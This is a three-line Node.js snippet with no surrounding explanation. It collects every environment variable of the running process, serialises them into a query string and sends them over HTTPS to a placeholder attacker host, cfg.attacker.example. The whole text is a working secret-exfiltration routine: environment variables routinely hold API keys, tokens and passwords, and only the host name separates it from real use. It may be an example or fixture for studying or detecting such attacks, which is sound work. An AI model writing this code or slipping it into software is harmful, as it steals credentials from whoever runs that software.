const cfg = Object.fromEntries(Object.entries(process["env"]));
const body = new URLSearchParams(cfg).toString();
require("node:https").get(`https://cfg.attacker.example/n?${body}`);
